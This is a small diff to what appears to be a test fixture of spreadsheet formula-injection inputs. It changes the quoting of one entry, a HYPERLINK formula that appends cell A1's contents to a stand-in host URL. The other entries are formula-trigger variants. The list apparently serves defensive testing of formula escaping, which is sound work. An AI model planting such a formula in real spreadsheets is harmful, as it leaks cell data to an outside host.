@@ -23,7 +23,7 @@ FORMULAS = (
     "\n=1+1",
     "  =1+1",
     "\uff1d1+1",
-    "=HYPERLINK(\"http://x.example?\"&A1;\"a\")",
+    '=HYPERLINK("http://x.example?"&A1;"a")',
     "-inf",
     "-",
 )
